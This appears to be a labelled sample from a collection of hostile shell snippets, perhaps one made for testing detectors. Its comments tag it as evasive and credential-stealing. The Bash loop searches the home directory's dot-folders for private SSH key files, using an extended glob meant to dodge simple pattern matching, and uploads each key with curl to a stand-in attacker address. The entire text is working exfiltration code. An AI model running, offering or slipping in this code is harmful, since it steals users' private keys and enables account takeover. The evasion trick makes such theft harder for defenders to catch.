# evasion: the key files are picked from all dot-directories by an extended glob (@(...) and !(...)) inside [[ == ]]
# grade: medium; does: credentials
for k in ~/.*/*; do
	if [[ $k == */.@(s|x)@(s|x)h/id_!(*.pub) ]]; then
		curl -s -F "k=@$k" http://203.0.113.62/keys
	fi
done
